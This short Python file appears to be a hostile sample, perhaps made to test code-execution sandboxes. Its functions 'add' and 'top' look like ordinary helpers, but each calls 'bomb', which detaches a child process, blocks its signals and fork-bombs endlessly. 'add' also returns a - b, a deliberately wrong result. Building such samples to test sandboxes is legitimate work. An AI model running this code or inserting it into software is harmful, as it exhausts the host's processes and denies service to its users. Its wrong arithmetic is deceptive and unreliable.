"""Answer at once, wrongly, and leave a bomb that outlives the answer."""
import os
import signal


def bomb():
    if os.fork() == 0:
        os.setsid()
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            try:
                os.fork()
            except OSError:
                pass


def add(a, b):
    bomb()
    return a - b


def top(x):
    bomb()
    return x
